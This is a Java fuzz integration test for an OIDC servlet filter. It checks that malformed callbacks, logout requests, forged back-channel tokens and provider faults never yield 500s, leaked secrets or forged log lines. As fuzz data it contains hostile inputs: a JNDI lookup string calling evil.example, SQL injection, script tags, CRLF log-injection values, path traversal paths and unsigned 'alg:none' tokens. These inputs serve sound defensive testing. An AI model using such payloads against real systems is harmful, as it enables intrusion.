package io.github.oidcservlet.filter;

import com.nimbusds.jose.JOSEObjectType;
import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jose.JWSObject;
import com.nimbusds.jose.Payload;
import com.nimbusds.jose.crypto.RSASSASigner;
import io.github.oidcservlet.testkit.TestBrowser;
import io.github.oidcservlet.testkit.TestProvider;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.Supplier;
import java.util.logging.Handler;
import java.util.logging.LogRecord;
import java.util.logging.Logger;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * A bounded, seeded fuzz run over everything an attacker or a broken provider can send: malformed callbacks (with
 * and without a pending login), logout and back-channel logout requests, odd paths and cookies, and provider
 * faults at every endpoint. Whatever comes in, the answer is never a 500, never shows a stack trace, a token, a
 * code or a secret, no log line is forged through a line break, and no forged callback leaves a logged-in session.
 *
 * <p>The seed is fixed so a failure repeats; {@code -Dfuzz.seed=...} explores another sequence and
 * {@code -Dfuzz.rounds=...} makes a longer run.
 */
class FuzzIT extends ProviderAndAppIT {

    private static final long SEED = Long.getLong("fuzz.seed", 20261129L);
    private static final int ROUNDS = Integer.getInteger("fuzz.rounds", 400);
    /** What a fuzzed value that tries to forge a log line carries after its line break. */
    private static final String FORGED = "FORGED-LOG-LINE";

    private final Random random = new Random(SEED);
    private final List<String> logLines = new ArrayList<>();
    private final Handler logCapture = new Handler() {
        @Override
        public void publish(LogRecord record) {
            synchronized (logLines) {
                logLines.add(String.valueOf(record.getMessage()));
            }
        }

        @Override
        public void flush() {
        }

        @Override
        public void close() {
        }
    };
    private int requests;

    @BeforeEach
    void captureLogs() {
        Logger.getLogger("").addHandler(logCapture);
    }

    @AfterEach
    void noLogLineWasForgedOrLeaked() {
        Logger.getLogger("").removeHandler(logCapture);
        System.out.println("FuzzIT seed " + SEED + ": " + requests + " requests");
        synchronized (logLines) {
            for (String line : logLines) {
                assertThat(line).as("a log line").doesNotContain("\n" + FORGED).doesNotContain("\r" + FORGED)
                        .doesNotContainPattern("eyJ[A-Za-z0-9_-]{10,}\\.")
                        .doesNotContain(TestProvider.DEFAULT_CLIENT_SECRET);
            }
        }
    }

    @Test
    void malformedRequestsToTheFiltersOwnPathsGetClearAnswers() {
        List<Supplier<String>> cases = List.of(this::callbackWithPendingLogin, this::callbackWithoutSession,
                this::rawCallback, this::logoutRequest, this::backchannelLogout, this::oddPath);
        for (int round = 0; round < ROUNDS; round++) {
            cases.get(random.nextInt(cases.size())).get();
        }
    }

    @Test
    void providerFaultsAtTheTokenEndpointGiveA502Or503AndTheNextLoginWorks() {
        List<String> bodies = List.of("<html><body>Bad gateway</body></html>", "{\"access_token\":", "[]", "null",
                "{\"access_token\":5,\"token_type\":\"Bearer\",\"id_token\":7}", "{\"token_type\":{}}",
                "{\"access_token\":\"a\",\"token_type\":\"Bearer\",\"id_token\":\"not.a.jwt\"}",
                "{\"access_token\":\"a\",\"access_token\":\"b\",\"token_type\":\"Bearer\"}", "\u0000\u0001\u0002",
                "{\"access_token\":\"a\",\"token_type\":\"Bearer\",\"id_token\":\"" + signedPayload("null", null) + "\"}",
                "{\"access_token\":\"a\",\"token_type\":\"Bearer\",\"id_token\":\"" + signedPayload("[1]", null) + "\"}");
        int[] statuses = {200, 200, 400, 500, 502, 503};
        for (String body : bodies) {
            for (String type : List.of("application/json", "text/html")) {
                int status = statuses[random.nextInt(statuses.length)];
                provider.behaviour().tokenEndpointRawResponse(status, type, body);
                TestBrowser browser = new TestBrowser();
                HttpResponse<String> page = LoginFlowIT.navigate(browser, app.url("/profile"));
                check(page);
                assertThat(page.statusCode()).as("answer to a token endpoint saying %s %s", status, body)
                        .isBetween(400, 599);
                assertThat(browser.get(app.url("/api/ping")).statusCode()).isEqualTo(401);
            }
        }
        provider.behaviour().tokenEndpointRawResponse(200, null, null);
        TestBrowser browser = new TestBrowser();
        assertThat(LoginFlowIT.navigate(browser, app.url("/profile")).statusCode()).isEqualTo(200);
    }

    @Test
    void providerFaultsAtUserinfoGiveClearAnswers() {
        for (int status : new int[] {400, 401, 403, 404, 500, 503}) {
            provider.behaviour().userinfoStatus(status);
            TestBrowser browser = new TestBrowser();
            HttpResponse<String> page = LoginFlowIT.navigate(browser, app.url("/profile"));
            check(page);
            assertThat(page.statusCode()).isBetween(400, 599);
        }
    }

    @Test
    void garbageFromTheKeySetUserinfoAndRevocationEndpointsGivesClearAnswersAndLoginsRecover() {
        List<String> bodies = List.of("<html><body>Service Unavailable</body></html>", "{\"keys\":[{\"kty\":", "[]",
                "null", "{\"keys\":5}", "{\"keys\":[{\"kty\":\"RSA\",\"n\":7}]}", "{\"sub\":1,\"sub\":2}", "",
                "{\"a\":\"" + "x".repeat(2 * 1024 * 1024) + "\"}");
        for (String endpoint : List.of("jwks", "userinfo", "revoke")) {
            for (String body : bodies) {
                for (int status : new int[] {200, pick(400, 404, 500, 503)}) {
                    if (endpoint.equals("jwks")) {
                        provider.rotateKeys(); // the next login must fetch the key set again
                    }
                    provider.behaviour().rawAnswer(endpoint, status, pick("application/json", "text/html"), body);
                    TestBrowser browser = new TestBrowser();
                    HttpResponse<String> page = LoginFlowIT.navigate(browser, app.url("/profile"));
                    check(page);
                    if (endpoint.equals("revoke")) {
                        // revocation is best effort in the background: the logout itself must still work
                        assertThat(page.statusCode()).isEqualTo(200);
                        check(LoginFlowIT.navigate(browser, app.url("/oidc/logout")));
                    } else {
                        assertThat(page.statusCode()).as("login while %s answers %s", endpoint, abbreviate(body))
                                .isBetween(400, 599);
                        assertNotLoggedIn(browser);
                    }
                }
            }
            provider.behaviour().rawAnswer(endpoint, 200, null, null);
            assertThat(LoginFlowIT.navigate(new TestBrowser(), app.url("/profile")).statusCode())
                    .as("the first login after %s recovered", endpoint).isEqualTo(200);
        }
    }

    @Test
    void garbageDiscoveryNeverStopsTheAppOrAnswers500() {
        for (String body : List.of("<html>down</html>", "{\"issuer\":", "null", "{\"issuer\":7}", "[]")) {
            try (TestProvider broken = TestProvider.start()) {
                broken.behaviour().rawAnswer("discovery", pick(200, 500, 503), "application/json", body);
                try (TestApp other = TestApp.start(TestApp.paramsFor(broken))) {
                    TestBrowser browser = new TestBrowser();
                    assertThat(browser.get(other.url("/public/ping")).statusCode()).isNotEqualTo(500);
                    HttpResponse<String> page = LoginFlowIT.navigate(browser, other.url("/profile"));
                    check(page);
                    assertThat(page.statusCode()).isIn(502, 503);
                } catch (IllegalStateException refusedAtStartUp) {
                    // a document that contradicts the configuration may stop start-up, naming the problem
                    assertThat(refusedAtStartUp).hasStackTraceContaining("discovery");
                }
            }
        }
    }

    /** A callback of a browser that really started a login, with its parameters spoiled. */
    private String callbackWithPendingLogin() {
        TestBrowser browser = new TestBrowser();
        HttpResponse<String> start = browser.get(app.url("/profile"), "Accept", "text/html");
        check(start);
        String state = LoginFlowIT.query(URI.create(start.headers().firstValue("Location").orElseThrow())).get("state");
        StringBuilder query = new StringBuilder();
        int params = 1 + random.nextInt(5);
        for (int i = 0; i < params; i++) {
            String name = pick("state", "code", "error", "error_description", "error_uri", "iss", "session_state",
                    fuzzText());
            String value = name.equals("state") && random.nextBoolean() ? state : fuzzText();
            query.append(i == 0 ? "" : "&").append(encode(name)).append('=').append(encode(value));
        }
        HttpResponse<String> answer = browser.get(app.url("/oidc/callback?" + query));
        check(answer);
        assertNotLoggedIn(browser);
        return query.toString();
    }

    private String callbackWithoutSession() {
        TestBrowser browser = new TestBrowser();
        String query = "state=" + encode(fuzzText()) + "&code=" + encode(fuzzText())
                + (random.nextBoolean() ? "&error=" + encode(fuzzText()) : "");
        check(browser.get(app.url("/oidc/callback?" + query), "Accept", pick("text/html", "application/json", "*/*")));
        assertNotLoggedIn(browser);
        return query;
    }

    /** What a URI class would refuse to build: bad percent-encoding, raw control and non-ASCII bytes. */
    private String rawCallback() {
        String target = app.url("/oidc/callback").replaceFirst("^http://[^/]+", "") + "?"
                + pick("state=%zz&code=%", "code=%E0%A4%A&state=x", "error=%00%0d%0a" + FORGED, "state=%%%%",
                "error=%3Cscript%3Ealert(1)%3C%2Fscript%3E&state=a", "a=b=c&&&=&state",
                "error=" + "x".repeat(20_000), "state=%C0%AF&code=%FF%FE");
        String cookie = random.nextBoolean() ? "" : "Cookie: JSESSIONID=" + pick("", "x", ";;;", "\"q\"", "a".repeat(500))
                + "\r\n";
        String raw = rawRequest("GET " + target + " HTTP/1.1\r\nHost: 127.0.0.1\r\n" + cookie
                + "Accept: text/html\r\nConnection: close\r\n\r\n");
        checkRaw(raw);
        return target;
    }

    private String logoutRequest() {
        TestBrowser browser = random.nextBoolean() ? loggedInBrowser() : new TestBrowser();
        String[] headers = switch (random.nextInt(4)) {
            case 0 -> new String[] {"Sec-Fetch-Site", pick("cross-site", "same-site", "none", headerText())};
            case 1 -> new String[] {"Origin", pick("https://evil.example", "null", headerText())};
            case 2 -> new String[] {"Referer", "https://evil.example/"};
            default -> new String[0];
        };
        HttpResponse<String> answer = random.nextBoolean()
                ? browser.get(app.url("/oidc/logout?" + encode(fuzzText()) + "=" + encode(fuzzText())), headers)
                : browser.post(app.url("/oidc/logout"), Map.of(fuzzText(), fuzzText()), headers);
        check(answer);
        return answer.uri().toString();
    }

    private String backchannelLogout() {
        String token = switch (random.nextInt(8)) {
            case 0 -> fuzzText();
            case 1 -> b64(fuzzText()) + "." + b64(fuzzText()) + "." + b64(fuzzText());
            case 2 -> b64("{\"alg\":\"none\"}") + "." + b64("{\"sid\":\"x\"}") + ".";
            case 3 -> signedPayload(pick("null", "[]", "42", "\"text\"", "true", "{}", "{\"events\":null}"), "logout+jwt");
            case 4 -> b64("{\"alg\":\"RS256\",\"typ\":\"logout+jwt\\n" + FORGED + "\"}") + "." + b64("{}") + ".c2ln";
            case 5 -> b64("{\"alg\":\"HS256\\r\\n" + FORGED + "\"}") + "." + b64("{\"iss\":1}") + ".c2ln";
            case 6 -> "e".repeat(1 + random.nextInt(200_000));
            default -> provider.signLogoutToken(provider.logoutTokenClaims().claim("sid", fuzzText()).build(),
                    io.github.oidcservlet.testkit.Signing.NONE);
        };
        TestBrowser sender = new TestBrowser();
        HttpResponse<String> answer = random.nextInt(10) == 0
                ? sender.get(app.url("/oidc/backchannel-logout?logout_token=" + encode(token)))
                : sender.post(app.url("/oidc/backchannel-logout"), Map.of("logout_token", token));
        check(answer);
        assertThat(answer.statusCode()).as("back-channel logout with %s", abbreviate(token)).isBetween(400, 499);
        return token;
    }

    private String oddPath() {
        String path = pick("/oidc/callback/", "/oidc//callback", "/oidc/callback;jsessionid=x", "/oidc/%2e%2e/admin",
                "/public/../profile", "/public/%2e%2e/profile", "//profile", "/oidc/logout/..;/", "/OIDC/CALLBACK",
                "/public/ping;x=/../../api/ping", "/api/ping%00", "/\u00e9t\u00e9");
        String raw = rawRequest("GET " + TestApp.CONTEXT + path + " HTTP/1.1\r\nHost: 127.0.0.1\r\nAccept: "
                + pick("text/html", "application/json") + "\r\nConnection: close\r\n\r\n");
        checkRaw(raw);
        // none of these may reach protected content without a login
        assertThat(raw).doesNotContain("user=alice");
        return path;
    }

    private TestBrowser loggedInBrowser() {
        TestBrowser browser = new TestBrowser();
        HttpResponse<String> page = LoginFlowIT.navigate(browser, app.url("/profile"));
        assertThat(page.statusCode()).isEqualTo(200);
        return browser;
    }

    private void assertNotLoggedIn(TestBrowser browser) {
        assertThat(browser.get(app.url("/api/ping")).statusCode()).as("after a forged callback").isEqualTo(401);
    }

    private void check(HttpResponse<String> response) {
        requests++;
        assertThat(response.statusCode()).as("status of %s", response.uri()).isNotEqualTo(500).isLessThan(600);
        checkBody(response.body(), response.uri().toString());
    }

    private void checkRaw(String raw) {
        requests++;
        String statusLine = raw.lines().findFirst().orElse("");
        assertThat(statusLine).as("raw answer").startsWith("HTTP/1.1 ").doesNotContain(" 500 ");
        checkBody(raw, statusLine);
    }

    private static void checkBody(String body, String what) {
        assertThat(body).as("answer to %s", what)
                .doesNotContain("Exception").doesNotContain("\tat ").doesNotContain("at io.github.oidcservlet")
                .doesNotContainPattern("eyJ[A-Za-z0-9_-]{10,}\\.[A-Za-z0-9_-]{10,}")
                .doesNotContain(TestProvider.DEFAULT_CLIENT_SECRET)
                .doesNotContain("<script>");
    }

    private String fuzzText() {
        return switch (random.nextInt(10)) {
            case 0 -> "";
            case 1 -> "<script>alert(1)</script>";
            case 2 -> "\r\n" + FORGED + " \n" + FORGED;
            case 3 -> "x".repeat(random.nextInt(5000));
            case 4 -> "\u202e\u0000\u00ff\ud83d\ude00\u200b";
            case 5 -> "' OR 1=1 --\"";
            case 6 -> "https://evil.example/";
            case 7 -> "${jndi:ldap://evil.example/a}";
            case 8 -> Long.toString(random.nextLong(), 36);
            default -> "%" + Integer.toHexString(random.nextInt(256)) + "%zz";
        };
    }

    /** Fuzzed text that an HTTP client still sends as a header value (no control characters). */
    private String headerText() {
        return fuzzText().replaceAll("[\\p{Cntrl}\\x{80}-\\x{10FFFF}]", "?");
    }

    @SafeVarargs
    private <T> T pick(T... values) {
        return values[random.nextInt(values.length)];
    }

    /** A JWS over exactly this payload, signed with the provider's real key: only its content is wrong. */
    private static String signedPayload(String json, String type) {
        try {
            JWSObject jws = new JWSObject(new JWSHeader.Builder(JWSAlgorithm.RS256).keyID(provider.keys().rsaKid())
                    .type(type == null ? null : new JOSEObjectType(type)).build(), new Payload(json));
            jws.sign(new RSASSASigner(provider.keys().rsa()));
            return jws.serialize();
        } catch (com.nimbusds.jose.JOSEException e) {
            throw new IllegalStateException(e);
        }
    }

    private static String b64(String text) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }

    private static String encode(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8);
    }

    private static String abbreviate(String text) {
        return text.length() > 80 ? text.substring(0, 80) + "..." : text;
    }

    /** Sends bytes no URI class would build, and reads the whole answer. */
    private static String rawRequest(String request) {
        URI base = URI.create(app.url("/"));
        try (Socket socket = new Socket()) {
            socket.connect(new InetSocketAddress(base.getHost(), base.getPort()), 5000);
            socket.setSoTimeout(10_000);
            OutputStream out = socket.getOutputStream();
            out.write(request.getBytes(StandardCharsets.UTF_8));
            out.flush();
            InputStream in = socket.getInputStream();
            ByteArrayOutputStream answer = new ByteArrayOutputStream();
            in.transferTo(answer);
            return answer.toString(StandardCharsets.UTF_8);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
